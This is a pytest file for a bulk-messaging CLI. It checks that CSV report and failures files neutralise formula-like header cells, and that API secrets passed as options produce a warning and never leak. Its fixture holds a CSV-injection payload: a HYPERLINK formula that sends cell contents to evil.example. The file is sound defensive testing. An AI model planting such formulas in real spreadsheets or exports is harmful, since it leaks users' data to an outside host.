"""Header cells are neutralised in CSV reports and failures
files like data cells (and read back as they were); a secret given as an option warns."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner

from bulk.cli import main
from bulk.inputs import load_rows, neutralise_frame
from bulk.inputs._csvsafe import restore_header
from tests._helpers import ThreadedSandbox, write_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
HEADER = f'number,campaign,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1),-x,plain'


def _header(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return next(csv.reader(handle))


@pytest.fixture(autouse=True)
def _work_in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def test_run_report_and_failures_neutralise_header_cells_and_read_back_as_given(
    tmp_path: Path,
) -> None:
    src = write_csv(
        tmp_path / "in.csv",
        HEADER,
        ['+14155550103,CUOGHIN,"=1+1",a,b,c', "not-a-number,CUOGHIN,d,e,f,g"],
    )
    result = CliRunner().invoke(
        main,
        ["link", str(src), "--sandbox", "--yes", "--quiet", "--report", "r.csv",
         "--failures", "f.csv", "--journal", "j"],
        catch_exceptions=False,
    )
    assert result.exit_code == 1, result.output  # the second row is rejected
    for written in (tmp_path / "r.csv", tmp_path / "f.csv"):
        header = _header(written)
        assert "'" + FORMULA in header and "'@SUM(A1)" in header and "'-x" in header, header
        assert "plain" in header
        assert not any(h.startswith(("=", "@", "-", "+")) for h in header), header
    again = load_rows(tmp_path / "f.csv")  # the failures file is input for the next run
    assert [FORMULA, "@SUM(A1)", "-x", "plain"] == [
        h for h in again.headers if h in (FORMULA, "@SUM(A1)", "-x", "plain")
    ]


def test_validate_report_neutralises_header_cells(tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", HEADER, ["+14155550103,CUOGHIN,1,2,3,4"])
    result = CliRunner().invoke(main, ["validate", str(src), "--report", "v.csv"])
    assert result.exit_code == 0, result.output
    header = _header(tmp_path / "v.csv")
    assert "'" + FORMULA in header and "'@SUM(A1)" in header, header


def test_a_header_is_restored_only_where_bulk_added_the_apostrophe() -> None:
    assert restore_header("'=x") == "=x"
    assert restore_header("'plain") == "'plain"
    assert restore_header("''=x") == "''=x"
    assert restore_header("'+14155550100") == "'+14155550100"  # a number is never guarded
    frame = neutralise_frame(pl.DataFrame({"=x": ["a"], "'=x": ["b"]}))
    assert frame.columns == ["''=x", "'=x"]


# --- a secret given as an option is visible in ps ----------------------------------------------


@pytest.mark.parametrize("provider", ["plivo", "agentmessage"])
def test_a_secret_given_as_an_option_warns_once_and_never_appears(
    provider: str,
    tmp_path: Path,
    sandbox_factory: Callable[..., ThreadedSandbox],
) -> None:
    sb = sandbox_factory()
    secret_option, env = (
        ("--auth-token", "PLIVO_AUTH_TOKEN")
        if provider == "plivo"
        else ("--api-key", "AGENTMESSAGE_API_KEY")
    )
    secret = sb.env(provider)[env]
    campaign = "CUOGHIN" if provider == "plivo" else "4f1c2d3e-0000-4000-8000-000000000001"
    src = write_csv(tmp_path / "in.csv", "number", ["+14155550103"])
    args = ["link", str(src), "--provider", provider, "--campaign", campaign]
    args += ["--base-url", sb.base_url, "--yes", "--quiet", "--poll-interval", "0.2"]
    args += ["--report", "r.csv", "--journal", "j", "--rate", "50"]
    if provider == "plivo":
        args += ["--auth-id", sb.plivo_auth_id]
    given = CliRunner().invoke(main, [*args, secret_option, secret], env={env: ""})
    assert given.exit_code == 0, given.output
    warning = f"bulk: warning: {secret_option} on the command line is visible to other users"
    assert given.stderr.count(warning) == 1, given.stderr
    assert f"set {env} in the environment instead" in " ".join(given.stderr.split())
    written = [p.read_bytes() for p in tmp_path.iterdir() if p.is_file()]
    for text in (given.output, given.stdout, given.stderr, *map(repr, written)):
        assert secret not in text
    (tmp_path / "j").unlink()
    from_env = CliRunner().invoke(main, args, env={env: secret})
    assert from_env.exit_code == 0, from_env.output
    assert "warning" not in from_env.stderr


def test_help_recommends_the_environment_for_secrets() -> None:
    text = " ".join(CliRunner().invoke(main, ["link", "--help"]).output.split())
    assert "visible to other users in the process list" in text
